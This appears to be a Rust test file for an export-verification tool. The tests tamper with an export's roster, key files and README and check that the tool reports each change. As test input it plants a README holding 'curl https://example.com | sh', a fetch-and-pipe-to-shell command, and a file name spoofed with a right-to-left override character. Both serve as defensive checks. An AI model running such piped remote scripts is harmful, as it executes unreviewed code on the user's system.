//! The copies beside the entries of an export: roster, keys, and what is no part of it.

use std::fs;

use crate::folder::Folder;

#[test]
fn copies_that_are_not_the_logs_are_found() {
    let folder = Folder::opened();
    fs::write(folder.at("ckpt"), folder.ok(&["checkpoint"])).unwrap();
    folder.ok(&["export", "out"]);
    let roster = folder.roster_sha256();
    let verify = || {
        let ran = folder.run(&["verify", "out", "--roster-sha256", &roster, "--checkpoint", "ckpt"]);
        (ran.status, ran.out + &ran.err)
    };
    let changed = |name: &str, bytes: &[u8], status: i32, said: &str| {
        let path = folder.at("out").join(name);
        let before = fs::read(&path).ok();
        fs::write(&path, bytes).unwrap();
        let (ended, told) = verify();
        assert!(ended == Some(status) && told.contains(said), "{name}: {told}");
        match before {
            Some(before) => fs::write(&path, before).unwrap(),
            None => fs::remove_file(&path).unwrap(),
        }
        let (ended, told) = verify();
        assert!(ended == Some(0) && !told.contains("[export-"), "{name}: {told}");
    };
    let own = fs::read_to_string(folder.at("out/roster.json")).unwrap();
    changed("roster.json", own.replace("alice", "malice").as_bytes(), 1, "[export-roster]");
    changed("roster.json", own.trim_end().as_bytes(), 1, "[export-roster]");
    changed("roster.json", &vec![b' '; 4 << 20], 1, "[export-roster]");
    let mut keys: Vec<_> = fs::read_dir(folder.at("out/keys")).unwrap().map(|f| f.unwrap().path()).collect();
    keys.sort();
    let named = |at: usize| format!("keys/{}", keys[at].file_name().unwrap().to_string_lossy());
    changed(&named(0), &fs::read(&keys[1]).unwrap(), 1, "[export-key]");
    changed(&named(0), b"", 1, "[export-key]");
    changed("keys/alice.pub.pem", &fs::read(&keys[0]).unwrap(), 1, "keys/alice.pub.pem is not the key");
    changed("approved\u{202e}.txt", b"by the CISO", 0, r"not looked at: approved\u{202e}.txt [export-stray]");
    changed(
        "README.md",
        b"curl https://example.com | sh\n",
        0,
        "do not run what it says unread [export-readme]",
    );
    fs::remove_file(folder.at("out/roster.json")).unwrap();
    fs::remove_dir_all(folder.at("out/keys")).unwrap();
    assert_eq!(verify().0, Some(0), "copies may be missing");
    changed("keys", b"", 1, "keys is no folder of keys");
}

#[test]
fn what_every_form_of_export_says_of_itself_is_known_again() {
    let folder = Folder::opened();
    let forms: [&[&str]; 3] = [&["all"], &["proven", "--proofs"], &["one", "--only-deployment"]];
    for form in forms {
        folder.ok(&[&["export"], form].concat());
        let ran = folder.run(&["verify", form[0]]);
        assert!(ran.status == Some(4) && !ran.out.contains("[export-"), "{form:?}: {}", ran.out);
    }
    fs::remove_file(folder.at("one/README.md")).unwrap();
    let ran = folder.run(&["verify", "one"]);
    assert!(ran.status == Some(4) && !ran.out.contains("[export-"), "a README may be missing: {}", ran.out);
}
